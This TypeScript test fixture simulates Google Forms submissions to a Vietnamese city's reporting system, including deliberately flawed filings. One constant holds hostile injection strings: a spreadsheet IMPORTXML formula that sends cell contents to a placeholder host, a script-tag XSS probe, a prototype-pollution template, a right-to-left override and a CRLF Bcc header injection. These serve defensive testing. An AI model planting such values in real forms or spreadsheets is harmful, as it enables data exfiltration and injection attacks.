import { linkCode } from '../../functions/domain/links/codes.ts';
import { questionId } from '../../functions/domain/links/form-links.ts';
import type { FormResponse, Responses } from '../../functions/ports.ts';
import { formKindOf, identification } from '../../sheets-schema/form.ts';
import { outlineSeeds } from '../../sheets-schema/seed/outline.ts';
import { UNSTORABLE } from './model-workbook.ts';

/** A year of long ago, a report pasted into each short field, words that want to be more than words, a book, a secret, what no cell takes. */
export type Flaw = 'year' | 'long fields' | 'hostile words' | 'huge' | 'secret' | 'unstorable';

/** One sending of the form, as the city knows it. Times in milliseconds. */
export type Filing = {
  readonly responseId: string;
  readonly round: string;
  readonly unit: string;
  /** False when the code of the unit's link was damaged. */
  readonly isCodeRight: boolean;
  /** False when every answer is a "đang cập nhật". */
  readonly isReal: boolean;
  readonly lacks: boolean;
  /** What nobody should have to read; nothing of it changes what the report is worth. */
  readonly flaw: Flaw | null;
  /** Sent by somebody who is not of the city. */
  readonly isStranger: boolean;
  readonly createdAt: number;
  readonly submittedAt: number;
  /** When the API begins to show it: sometimes minutes later. */
  readonly visibleAt: number;
};

export const LINK_SECRET = 'simulated-secret-of-no-value';

/** The form's responses; an edit hides the version before it as soon as it shows. */
export function createModelResponses(filings: readonly Filing[], now: () => number): Responses {
  const made = new Map<Filing, FormResponse>();
  const responseFor = (filing: Filing) => {
    const response = made.get(filing) ?? responseOf(filing);
    made.set(filing, response);
    return response;
  };
  const shown = () => {
    const latest = new Map<string, Filing>();
    for (const filing of filings) if (filing.visibleAt <= now()) latest.set(filing.responseId, filing);
    return [...latest.values()].map(responseFor);
  };
  return {
    formId: 'simulated-form',
    submissions: async () => shown(),
    async since(time, isKnown) {
      const asked = shown().filter((one) => (time === null || one.lastSubmittedTime >= time) && !isKnown(one));
      return { responses: asked.toSorted(bySubmission), more: null };
    },
  };
}

/** Texts of {@link submissionTime} sort as the times do. */
function bySubmission(a: FormResponse, b: FormResponse): number {
  return a.lastSubmittedTime < b.lastSubmittedTime ? -1 : 1;
}

/** RFC 3339 with microseconds, as the API writes it: such texts sort as the times do. */
export function submissionTime(moment: number): string {
  return new Date(moment).toISOString().replace('Z', '417Z');
}

const textsOf = {
  '1.2':
    'Đã rà soát và triển khai theo Nghị định số 269/2025/NĐ-CP ngày 14/10/2025: kiện toàn cơ quan thường trực, giao Sở Xây dựng làm đầu mối, ' +
    'chuẩn bị danh mục dữ liệu đô thị dùng chung, bảo mật theo mật độ truy cập, dự kiến trình trước ngày 15/12/2026.',
  '1.4': 'Dữ liệu đất đai và dân cư chưa kết nối thông suốt giữa các sở, ngành của thành phố.',
} as const;

/** The questions the simulated outline asks: two items suffice to tell a full report from one that lacks something. */
export const simulatedOutline = outlineSeeds.filter(({ item }) => item in textsOf);

type Asked = { readonly key: string; readonly kind: string };

const { office, filer, position, email, phone, officialNumber, officialDate, officialLink } = identification;
const shortFields = [office, filer, position, email, phone, officialNumber, officialLink];
const narrative = (item: keyof typeof textsOf) => ({ key: item, kind: formKindOf['Đoạn văn'] });
const PASTED = 'Báo cáo dán nhầm vào ô ngắn. '.repeat(2_100).slice(0, 60_000);
const HOSTILE =
  '=IMPORTXML("https://la.example/?q="&A1;"//a") <script>alert(1)</script> {{{__proto__}}} \u202E\r\nBcc: la@la.example';

/** What stands in the form instead, or besides. */
const flawed: Readonly<Record<Flaw, readonly (readonly [Asked, string])[]>> = {
  year: [
    [officialNumber, '12/BC-UBND'],
    [officialDate, '0025-10-23'],
  ],
  'long fields': shortFields.map((field) => [field, PASTED]),
  'hostile words': shortFields.map((field) => [field, HOSTILE]),
  secret: [[narrative('1.4'), '']],
  unstorable: [[narrative('1.4'), UNSTORABLE]],
  huge: [[narrative('1.2'), `${textsOf['1.2']}\n`.repeat(1_000)]],
};

/** As officials mark a secret; what follows the mark is in no cell. */
const MARKS = [
  'TỐI MẬT',
  'Mức độ mật: MẬT',
  'TÀI LIỆU MẬT',
  'BÁO CÁO (MẬT)',
  'Dấu chỉ độ mật: Tối mật',
  'M\u200BẬT',
] as const;
export const SECRET = 'Trạm quan trắc số 4711 đặt tại tầng hầm.';

function secretOf({ submittedAt }: Filing): string {
  return `${MARKS[submittedAt % MARKS.length]}\n${SECRET}`;
}

function responseOf(filing: Filing): FormResponse {
  const { unit, round, isCodeRight, isReal, lacks, flaw } = filing;
  const fixed = ({ key, kind }: { key: string; kind: string }, text: string) =>
    [questionId(key, kind), [text]] as const;
  const asked = Object.entries(textsOf).filter(([item]) => !(lacks && item === '1.4'));
  return {
    responseId: filing.responseId,
    createTime: submissionTime(filing.createdAt),
    lastSubmittedTime: submissionTime(filing.submittedAt),
    respondentEmail: null,
    answers: new Map([
      fixed(identification.unit, unit),
      fixed(identification.code, isCodeRight ? linkCode(LINK_SECRET, round, unit) : `${unit}-000000000000`),
      ...asked.map(
        ([item, text]) => [questionId(item, formKindOf['Đoạn văn']), [isReal ? text : 'Đang cập nhật']] as const,
      ),
      ...(flaw === null ? [] : flawed[flaw]).map(
        ([question, text]) => [questionId(question.key, question.kind), [text || secretOf(filing)]] as const,
      ),
    ]),
  };
}
